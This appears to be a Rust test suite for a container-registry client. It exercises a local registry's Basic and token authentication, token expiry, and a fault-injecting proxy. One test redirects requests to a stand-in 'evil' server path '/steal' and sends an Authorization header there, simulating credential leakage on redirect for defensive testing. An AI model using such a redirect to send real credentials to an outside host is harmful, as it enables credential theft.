//! Registry client (issue 5), against a real `docker-registry` on 127.0.0.1.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use crate::fault_proxy::{EvilServer, Fault, FaultProxy};
use crate::registry_seed::{
    digest, location_path, push_blob, sample_blob, seed_image, skopeo, tiny_oci_layout,
};
use crate::registry_util::{HttpResponse, Registry, RegistryAuth, http_get, http_raw};
use crate::token_server::{self, basic_auth};
use crate::util::TempDir;

/// The harness itself: the registry starts on its own port and speaks distribution v2.
#[test]
fn registry_harness_answers_v2() {
    let reg = Registry::start("smoke", RegistryAuth::Anonymous);
    let res = reg.get("/v2/");
    assert_eq!(res.status, 200, "{res:?}\nlog:\n{}", reg.log());
    assert_eq!(
        res.header("Docker-Distribution-API-Version"),
        Some("registry/2.0"),
        "{res:?}"
    );
    assert_eq!(res.body, b"{}", "{res:?}");
    // Its storage is the test's own, not the system registry's.
    assert!(reg.dir.0.join("storage").is_dir());
    let addr = reg.addr.clone();
    drop(reg);
    assert!(
        crate::registry_util::http_get(&addr, "/v2/").is_err(),
        "the registry on {addr} still answers after drop"
    );
}

/// GET with extra headers; panics when no answer comes.
fn http_request(addr: &str, path: &str, headers: &[(&str, &str)]) -> HttpResponse {
    crate::registry_util::http_request("GET", addr, path, headers, b"")
        .unwrap_or_else(|e| panic!("GET {addr}{path}: {e}"))
}

/// Any method with a body; panics when no answer comes.
fn http_request_body(
    method: &str,
    addr: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> HttpResponse {
    crate::registry_util::http_request(method, addr, path, headers, body)
        .unwrap_or_else(|e| panic!("{method} {addr}{path}: {e}"))
}

/// htpasswd mode: anonymous requests are challenged with Basic, the user gets in, a wrong
/// password does not.
#[test]
fn registry_htpasswd_asks_for_basic_credentials() {
    let reg = Registry::start("htpasswd", RegistryAuth::htpasswd("alice", "s3cret"));
    let res = reg.get("/v2/");
    assert_eq!(res.status, 401, "{res:?}\nlog:\n{}", reg.log());
    assert_eq!(
        res.header("WWW-Authenticate"),
        Some("Basic realm=\"rbuild-test\""),
        "{res:?}"
    );
    let good = basic_auth("alice", "s3cret");
    let res = http_request_body("GET", &reg.addr, "/v2/", &[("Authorization", &good)], b"");
    assert_eq!(res.status, 200, "{res:?}\nlog:\n{}", reg.log());
    let bad = basic_auth("alice", "wrong");
    let res = http_request_body("GET", &reg.addr, "/v2/", &[("Authorization", &bad)], b"");
    assert_eq!(res.status, 401, "{res:?}");
    // And the credentials are good for a push.
    let d = push_blob(&reg.addr, "hp/x", b"htpasswd blob", Some(&good));
    let res = http_request_body(
        "GET",
        &reg.addr,
        &format!("/v2/hp/x/blobs/{d}"),
        &[("Authorization", &good)],
        b"",
    );
    assert_eq!(
        (res.status, res.body.as_slice()),
        (200, &b"htpasswd blob"[..]),
        "{res:?}"
    );
    // A real client logs in the same way and leaves an image the user can read back.
    let manifest = seed_image(&reg.addr, "hp/img:1", Some("alice:s3cret"));
    let res = http_request(
        &reg.addr,
        "/v2/hp/img/manifests/1",
        &[
            ("Authorization", &good),
            ("Accept", "application/vnd.oci.image.manifest.v1+json"),
        ],
    );
    assert_eq!(res.status, 200, "{res:?}");
    assert_eq!(res.body, manifest);
    assert_eq!(
        res.header("Docker-Content-Digest"),
        Some(digest(&manifest).as_str())
    );
}

/// Fetches a token from the registry's token server for `scopes`, with Basic
/// credentials when given; returns the answer.
fn fetch_token(reg: &Registry, scopes: &[&str], creds: Option<(&str, &str)>) -> HttpResponse {
    let realm = reg.token_server().realm();
    let rest = realm.strip_prefix("http://").unwrap();
    let (addr, path) = rest.split_at(rest.find('/').unwrap());
    let mut query = format!("{path}?service={}", token_server::SERVICE);
    for s in scopes {
        query.push_str(&format!(
            "&scope={}",
            s.replace(':', "%3A")
                .replace(',', "%2C")
                .replace(' ', "%20")
        ));
    }
    let auth = creds.map(|(u, p)| basic_auth(u, p));
    let headers: Vec<(&str, &str)> = auth
        .as_deref()
        .map(|a| ("Authorization", a))
        .into_iter()
        .collect();
    http_request_body("GET", addr, &query, &headers, b"")
}

/// The claims of a JWT, unverified: the registry's acceptance is the verification.
fn jwt_claims(token: &str) -> serde_json::Value {
    use base64::Engine;
    let part = token.split('.').nth(1).expect("a JWT has three parts");
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(part)
        .unwrap();
    serde_json::from_slice(&raw).unwrap()
}

fn token_of(res: &HttpResponse) -> String {
    assert_eq!(res.status, 200, "token server: {res:?}");
    let v: serde_json::Value = serde_json::from_slice(&res.body).unwrap();
    assert_eq!(v["token"], v["access_token"], "{v}");
    assert!(v["expires_in"].as_u64().is_some(), "{v}");
    assert!(v["issued_at"].as_str().is_some(), "{v}");
    v["token"].as_str().unwrap().to_string()
}

/// Token mode: the registry challenges with Bearer naming our token server, accepts the
/// JWTs it signs (x5c chain to `rootcertbundle`), and enforces their `access` claims.
#[test]
fn registry_token_mode_accepts_tokens_from_the_test_token_server() {
    let reg = Registry::start("token", RegistryAuth::token("bob", "hunter2"));
    let res = reg.get("/v2/");
    assert_eq!(res.status, 401, "{res:?}\nlog:\n{}", reg.log());
    let challenge = res.header("WWW-Authenticate").unwrap_or_default();
    assert_eq!(
        challenge,
        format!(
            "Bearer realm=\"{}\",service=\"{}\"",
            reg.token_server().realm(),
            token_server::SERVICE
        ),
        "{res:?}"
    );

    let token = token_of(&fetch_token(
        &reg,
        &["repository:tk/x:pull,push"],
        Some(("bob", "hunter2")),
    ));
    let claims = jwt_claims(&token);
    assert_eq!(claims["iss"], token_server::ISSUER, "{claims}");
    assert_eq!(claims["aud"], token_server::SERVICE, "{claims}");
    assert_eq!(claims["sub"], "bob", "{claims}");
    assert_eq!(
        claims["access"],
        serde_json::json!([{"type": "repository", "name": "tk/x", "actions": ["pull", "push"]}]),
        "{claims}"
    );
    let bearer = format!("Bearer {token}");
    let res = http_request_body("GET", &reg.addr, "/v2/", &[("Authorization", &bearer)], b"");
    assert_eq!(res.status, 200, "{res:?}\nlog:\n{}", reg.log());
    let d = push_blob(&reg.addr, "tk/x", b"token blob", Some(&bearer));
    let res = http_request_body(
        "GET",
        &reg.addr,
        &format!("/v2/tk/x/blobs/{d}"),
        &[("Authorization", &bearer)],
        b"",
    );
    assert_eq!(
        (res.status, res.body.as_slice()),
        (200, &b"token blob"[..]),
        "{res:?}"
    );
    // The token is for tk/x only: another repository gets a challenge naming the scope.
    let res = http_request_body(
        "GET",
        &reg.addr,
        &format!("/v2/tk/other/blobs/{d}"),
        &[("Authorization", &bearer)],
        b"",
    );
    assert_eq!(res.status, 401, "{res:?}");
    assert!(
        res.header("WWW-Authenticate")
            .unwrap_or_default()
            .contains("scope=\"repository:tk/other:pull\""),
        "{res:?}"
    );

    // Wrong password: 401 from the token server itself.
    let res = fetch_token(&reg, &["repository:tk/x:pull"], Some(("bob", "nope")));
    assert_eq!(res.status, 401, "{res:?}");
    // No credentials: a token, but one that grants nothing.
    let anon = format!(
        "Bearer {}",
        token_of(&fetch_token(&reg, &["repository:tk/x:pull"], None))
    );
    let res = http_request_body(
        "GET",
        &reg.addr,
        &format!("/v2/tk/x/blobs/{d}"),
        &[("Authorization", &anon)],
        b"",
    );
    assert_eq!(res.status, 401, "anonymous token must not pull: {res:?}");
    // No scope at all (what `docker login` asks for): still a token for `/v2/`.
    let bare = format!(
        "Bearer {}",
        token_of(&fetch_token(&reg, &[], Some(("bob", "hunter2"))))
    );
    let res = http_request_body("GET", &reg.addr, "/v2/", &[("Authorization", &bare)], b"");
    assert_eq!(res.status, 200, "{res:?}");

    // Several scopes, as repeated parameters and space-separated in one.
    let multi = token_of(&fetch_token(
        &reg,
        &[
            "repository:a/b:pull",
            "repository:c:pull,push registry:catalog:*",
        ],
        Some(("bob", "hunter2")),
    ));
    let names: Vec<String> = jwt_claims(&multi)["access"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            format!(
                "{}:{}:{}",
                a["type"].as_str().unwrap(),
                a["name"].as_str().unwrap(),
                a["actions"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|x| x.as_str().unwrap())
                    .collect::<Vec<_>>()
                    .join(",")
            )
        })
        .collect();
    assert_eq!(
        names,
        [
            "repository:a/b:pull",
            "repository:c:pull,push",
            "registry:catalog:*"
        ]
    );
    let log = reg.token_requests();
    let summary: Vec<(Option<&str>, &[String], u16)> = log
        .iter()
        .map(|r| (r.basic_user.as_deref(), r.scopes.as_slice(), r.status))
        .collect();
    assert_eq!(
        summary,
        vec![
            (
                Some("bob"),
                &["repository:tk/x:pull,push".to_string()][..],
                200
            ),
            (Some("bob"), &["repository:tk/x:pull".to_string()][..], 401),
            (None, &["repository:tk/x:pull".to_string()][..], 200),
            (Some("bob"), &[][..], 200),
            (
                Some("bob"),
                &[
                    "repository:a/b:pull".to_string(),
                    "repository:c:pull,push".to_string(),
                    "registry:catalog:*".to_string()
                ][..],
                200
            ),
        ]
    );
    assert!(
        log[0]
            .query
            .contains("scope=repository%3Atk/x%3Apull%2Cpush"),
        "{log:?}"
    );
    assert!(
        log.iter()
            .all(|r| r.service.as_deref() == Some(token_server::SERVICE)),
        "{log:?}"
    );
    assert!(
        log.iter().all(|r| r.method == "GET" && r.path == "/token"),
        "{log:?}"
    );
    // The OAuth2 POST form is not offered: 404, which clients take as "use GET".
    let realm = reg.token_server().realm();
    let token_addr = realm
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap();
    let res = http_request_body(
        "POST",
        token_addr,
        "/token",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        b"grant_type=password&username=bob&password=hunter2&service=x",
    );
    assert_eq!(res.status, 404, "{res:?}");
    let last = reg.token_requests().pop().unwrap();
    assert_eq!(
        (last.method.as_str(), last.status),
        ("POST", 404),
        "{last:?}"
    );
}

/// A token told to last 2 s is refused by the registry soon after: what a client's
/// "refresh the token on 401" needs to meet. (`exp` is whole seconds, so a 2 s token
/// lives 1–2 s; 1 s could already be over by the first request.)
#[test]
fn registry_token_expiry_is_enforced_by_the_registry() {
    let reg = Registry::start(
        "token-expiry",
        RegistryAuth::Token {
            user: "bob".into(),
            password: "hunter2".into(),
            expires_in_secs: 2,
        },
    );
    let res = fetch_token(&reg, &[], Some(("bob", "hunter2")));
    let v: serde_json::Value = serde_json::from_slice(&res.body).unwrap();
    assert_eq!(v["expires_in"], 2, "{v}");
    let bearer = format!("Bearer {}", token_of(&res));
    let get = || http_request_body("GET", &reg.addr, "/v2/", &[("Authorization", &bearer)], b"");
    let first = get();
    assert_eq!(
        first.status,
        200,
        "fresh token: {first:?}\nlog:\n{}",
        reg.log()
    );
    let start = Instant::now();
    loop {
        let res = get();
        if res.status == 401 {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(6),
            "a 2 s token still accepted after 6 s: {res:?}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    // A new token works again.
    reg.token_server().set_expires_in(300);
    let bearer = format!(
        "Bearer {}",
        token_of(&fetch_token(&reg, &[], Some(("bob", "hunter2"))))
    );
    let res = http_request_body("GET", &reg.addr, "/v2/", &[("Authorization", &bearer)], b"");
    assert_eq!(res.status, 200, "{res:?}");
}

/// `Status` answers instead of the registry for as many requests as asked, then the
/// proxy forwards again; the observer log says which requests were faulted.
#[test]
fn fault_proxy_status_faults_then_forwards() {
    let reg = Registry::start("proxy-status", RegistryAuth::Anonymous);
    let proxy = FaultProxy::start(&reg.addr);
    proxy.fail("GET", "/v2/", 1, Fault::status(503));
    proxy.fail(
        "",
        "/v2/",
        1,
        Fault::Status(429, vec![("Retry-After".into(), "1".into())]),
    );
    let statuses: Vec<(u16, Option<String>)> = (0..3)
        .map(|_| {
            let r = http_get(proxy.addr(), "/v2/").unwrap();
            (r.status, r.header("Retry-After").map(str::to_string))
        })
        .collect();
    assert_eq!(
        statuses,
        vec![(503, None), (429, Some("1".into())), (200, None)]
    );
    let seen = proxy.seen();
    let faults: Vec<(Option<u16>, bool)> =
        seen.iter().map(|s| (s.status, s.fault.is_some())).collect();
    assert_eq!(
        faults,
        vec![(Some(503), true), (Some(429), true), (Some(200), false)],
        "{seen:?}"
    );
    // The forwarded answer is the registry's own.
    let r = http_get(proxy.addr(), "/v2/").unwrap();
    assert_eq!(
        r.header("Docker-Distribution-API-Version"),
        Some("registry/2.0"),
        "{r:?}"
    );
    // A rule for another method or path leaves this one alone.
    proxy.fail("PUT", "/v2/", 1, Fault::status(500));
    proxy.fail("GET", "/blobs/", 1, Fault::status(500));
    assert_eq!(http_get(proxy.addr(), "/v2/").unwrap().status, 200);
}

/// `DropAfter` cuts a blob download short; a `Range: bytes=N-` retry through the proxy
/// gets the registry's 206 with the rest, which joins up to the whole blob.
#[test]
fn fault_proxy_drop_after_then_range_resumes() {
    let reg = Registry::start("proxy-drop", RegistryAuth::Anonymous);
    let blob = sample_blob(300_000);
    let d = push_blob(&reg.addr, "drop/x", &blob, None);
    let proxy = FaultProxy::start(&reg.addr);
    proxy.fail("GET", &format!("/blobs/{d}"), 1, Fault::DropAfter(100_000));
    let path = format!("/v2/drop/x/blobs/{d}");
    let cut = http_get(proxy.addr(), &path).unwrap();
    assert_eq!(cut.status, 200, "{cut:?}");
    assert_eq!(cut.header("Content-Length"), Some("300000"));
    assert_eq!(cut.body.len(), 100_000, "the body was not cut where asked");
    assert_eq!(cut.body[..], blob[..100_000]);
    // Registry 2.8 serves blob ranges (Go's http.ServeContent): 206 and the rest.
    let rest = http_request(proxy.addr(), &path, &[("Range", "bytes=100000-")]);
    assert_eq!(rest.status, 206, "{:?}", rest.headers);
    assert_eq!(
        rest.header("Content-Range"),
        Some("bytes 100000-299999/300000")
    );
    let mut joined = cut.body;
    joined.extend_from_slice(&rest.body);
    assert_eq!(digest(&joined), d);
    let seen = proxy.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(
        seen.iter().all(|s| s.path == path && s.query.is_empty()),
        "{seen:?}"
    );
    assert!(
        matches!(seen[0].fault, Some(Fault::DropAfter(100_000))),
        "{seen:?}"
    );
    assert_eq!(seen[1].range.as_deref(), Some("bytes=100000-"), "{seen:?}");
    assert!(seen[1].fault.is_none(), "{seen:?}");
}

/// `CorruptBody` keeps the length and breaks the digest, once.
#[test]
fn fault_proxy_corrupt_body_breaks_the_digest_once() {
    let reg = Registry::start("proxy-corrupt", RegistryAuth::Anonymous);
    let blob = sample_blob(50_000);
    let d = push_blob(&reg.addr, "corrupt/x", &blob, None);
    let proxy = FaultProxy::start(&reg.addr);
    proxy.fail("GET", "/blobs/sha256:", 1, Fault::CorruptBody);
    let path = format!("/v2/corrupt/x/blobs/{d}");
    let bad = http_get(proxy.addr(), &path).unwrap();
    assert_eq!(
        (bad.status, bad.body.len()),
        (200, blob.len()),
        "{:?}",
        bad.headers
    );
    assert_eq!(bad.header("Docker-Content-Digest"), Some(d.as_str()));
    assert_ne!(
        digest(&bad.body),
        d,
        "the corrupted body still matches its digest"
    );
    let good = http_get(proxy.addr(), &path).unwrap();
    assert_eq!(digest(&good.body), d);
}

/// `Stall` never answers (the client's own timeout ends the wait); the next request is
/// forwarded.
#[test]
fn fault_proxy_stall_never_answers() {
    let reg = Registry::start("proxy-stall", RegistryAuth::Anonymous);
    let proxy = FaultProxy::start(&reg.addr);
    proxy.fail("", "/v2/", 1, Fault::Stall);
    let start = Instant::now();
    let err = http_raw(
        proxy.addr(),
        format!("GET /v2/ HTTP/1.1\r\nHost: {}\r\n\r\n", proxy.addr()).as_bytes(),
        Duration::from_millis(500),
    )
    .expect_err("a stalled request got an answer");
    assert!(
        matches!(
            err.kind(),
            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
        ),
        "{err:?}"
    );
    assert!(start.elapsed() >= Duration::from_millis(450));
    assert_eq!(http_get(proxy.addr(), "/v2/").unwrap().status, 200);
    let seen = proxy.seen();
    assert_eq!(seen[0].status, None, "{seen:?}");
    assert_eq!(proxy.count("GET", "/v2/"), 2);

    // Dropping the proxy closes a connection it is stalling: the client sees the end of
    // the stream at once instead of waiting out its timeout.
    proxy.fail("", "/v2/", 1, Fault::Stall);
    let mut held = std::net::TcpStream::connect(proxy.addr()).unwrap();
    held.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    write!(held, "GET /v2/ HTTP/1.1\r\nHost: {}\r\n\r\n", proxy.addr()).unwrap();
    while proxy.count("", "/v2/") < 3 {
        std::thread::sleep(Duration::from_millis(10));
    }
    let addr = proxy.addr().to_string();
    let start = Instant::now();
    drop(proxy);
    let mut rest = Vec::new();
    let n = held.read_to_end(&mut rest).unwrap_or(0);
    assert_eq!(
        n,
        0,
        "a stalled connection got {:?}",
        String::from_utf8_lossy(&rest)
    );
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "{:?}",
        start.elapsed()
    );
    assert!(
        std::net::TcpStream::connect(&addr).is_err(),
        "the proxy still accepts on {addr} after drop"
    );
}

/// `Redirect` sends the client to another host; the evil server there records whether
/// credentials came along.
#[test]
fn fault_proxy_redirects_to_the_evil_server() {
    let reg = Registry::start("proxy-redirect", RegistryAuth::Anonymous);
    let evil = EvilServer::start();
    assert!(evil.addr().starts_with("127.0.0.2:"), "{}", evil.addr());
    let proxy = FaultProxy::start(&reg.addr);
    let target = format!("http://{}/steal", evil.addr());
    proxy.fail("GET", "/blobs/", 1, Fault::Redirect(target.clone()));
    let res = http_request(
        proxy.addr(),
        "/v2/r/x/blobs/sha256:0000",
        &[("Authorization", "Basic dTpw")],
    );
    assert_eq!(res.status, 307, "{res:?}");
    assert_eq!(res.header("Location"), Some(target.as_str()));
    // A well-behaved client follows without credentials; a leaky one sends them.
    let polite = http_get(evil.addr(), "/steal").unwrap();
    assert_eq!(polite.status, 401);
    assert_eq!(
        polite.header("WWW-Authenticate"),
        Some("Basic realm=\"evil\"")
    );
    let _ = http_request(evil.addr(), "/steal", &[("Authorization", "Basic dTpw")]);
    let seen: Vec<bool> = evil.seen().iter().map(|s| s.authorization).collect();
    assert_eq!(seen, vec![false, true]);
    let proxied = proxy.seen();
    assert!(proxied[0].authorization, "{proxied:?}");
}

/// Uploads go through the proxy: the registry's `Location` names the proxy (the client's
/// `Host` is passed on), and a chunked PATCH body arrives whole.
#[test]
fn fault_proxy_forwards_uploads_and_keeps_locations_at_the_proxy() {
    let reg = Registry::start("proxy-upload", RegistryAuth::Anonymous);
    let proxy = FaultProxy::start(&reg.addr);
    let addr = proxy.addr().to_string();
    let start = http_request_body("POST", &addr, "/v2/up/x/blobs/uploads/", &[], b"");
    assert_eq!(start.status, 202, "{start:?}");
    let location = start.header("Location").unwrap().to_string();
    assert!(
        location.starts_with(&format!("http://{addr}/")),
        "{location}"
    );
    let blob = sample_blob(200_000);
    let mut chunked = format!(
        "PATCH {} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n",
        location_path(&location)
    )
    .into_bytes();
    for part in blob.chunks(65_536) {
        chunked.extend_from_slice(format!("{:x}\r\n", part.len()).as_bytes());
        chunked.extend_from_slice(part);
        chunked.extend_from_slice(b"\r\n");
    }
    chunked.extend_from_slice(b"0\r\n\r\n");
    let patched = http_raw(&addr, &chunked, Duration::from_secs(10)).unwrap();
    assert_eq!(patched.status, 202, "{patched:?}\nlog:\n{}", reg.log());
    assert_eq!(patched.header("Range"), Some("0-199999"), "{patched:?}");
    let location = patched.header("Location").unwrap();
    assert!(
        location.starts_with(&format!("http://{addr}/")),
        "{location}"
    );
    let d = digest(&blob);
    let put = http_request_body(
        "PUT",
        &addr,
        &format!("{}&digest={d}", location_path(location)),
        &[],
        b"",
    );
    assert_eq!(put.status, 201, "{put:?}");
    let got = http_get(&reg.addr, &format!("/v2/up/x/blobs/{d}")).unwrap();
    assert_eq!(digest(&got.body), d);
    let methods: Vec<String> = proxy
        .seen()
        .iter()
        .map(|s| format!("{} {:?}", s.method, s.status))
        .collect();
    assert_eq!(
        methods,
        vec!["POST Some(202)", "PATCH Some(202)", "PUT Some(201)"]
    );
}

/// A real client pushes and pulls through the proxy to the token registry: proof that
/// the token server speaks the protocol docker-style clients expect, and that the proxy
/// forwards a whole push (HEAD, POST, PATCH/PUT with bodies, manifest PUT) faithfully.
#[test]
fn skopeo_pushes_through_the_proxy_to_the_token_registry() {
    let reg = Registry::start("skopeo-token", RegistryAuth::token("carol", "pw"));
    let proxy = FaultProxy::start(&reg.addr);
    let layout = TempDir::new("skopeo-layout");
    let manifest = tiny_oci_layout(&layout.0);
    let src = format!("oci:{}:1", layout.0.display());
    let dest = format!("docker://{}/sk/x:1", proxy.addr());
    let out = skopeo(&[
        "copy",
        "--dest-tls-verify=false",
        "--dest-creds",
        "carol:pw",
        &src,
        &dest,
    ]);
    assert!(
        out.status.success(),
        "skopeo copy failed:\n{}\nproxy saw: {:#?}\nregistry log:\n{}",
        String::from_utf8_lossy(&out.stderr),
        proxy.seen(),
        reg.log()
    );
    let out = skopeo(&[
        "inspect",
        "--raw",
        "--tls-verify=false",
        "--creds",
        "carol:pw",
        &dest,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&manifest),
        "the registry holds another manifest than the one pushed"
    );

    let tokens = reg.token_requests();
    assert!(!tokens.is_empty());
    assert!(
        tokens
            .iter()
            .all(|t| t.basic_user.as_deref() == Some("carol") && t.status == 200),
        "{tokens:#?}"
    );
    assert!(
        tokens
            .iter()
            .any(|t| t.scopes.iter().any(|s| s == "repository:sk/x:pull,push")),
        "{tokens:#?}"
    );
    let seen = proxy.seen();
    let manifest_put = seen
        .iter()
        .find(|s| s.method == "PUT" && s.path == "/v2/sk/x/manifests/1")
        .unwrap_or_else(|| panic!("no manifest PUT through the proxy: {seen:#?}"));
    assert_eq!(manifest_put.status, Some(201), "{seen:#?}");
    assert!(manifest_put.authorization, "{seen:#?}");

    // Without credentials the token grants nothing, so the push fails.
    let out = skopeo(&[
        "copy",
        "--dest-tls-verify=false",
        "--dest-no-creds",
        &src,
        &format!("docker://{}/sk/x:2", proxy.addr()),
    ]);
    assert!(!out.status.success(), "an anonymous push succeeded");
    let last = reg.token_requests().pop().unwrap();
    assert_eq!(last.basic_user, None, "{last:?}");
}

/// Large blobs pass through the proxy both ways intact (it streams; nothing is held whole).
#[test]
fn fault_proxy_carries_a_large_blob_both_ways() {
    let reg = Registry::start("proxy-large", RegistryAuth::Anonymous);
    let proxy = FaultProxy::start(&reg.addr);
    let blob = sample_blob(64 << 20);
    let t = Instant::now();
    let d = push_blob(proxy.addr(), "large/x", &blob, None);
    let up = t.elapsed();
    let t = Instant::now();
    let got = http_request(proxy.addr(), &format!("/v2/large/x/blobs/{d}"), &[]);
    let down = t.elapsed();
    assert_eq!(got.status, 200);
    assert_eq!(got.body.len(), blob.len());
    assert_eq!(digest(&got.body), d);
    eprintln!("64 MiB through the proxy: push {up:?}, pull {down:?}");
}
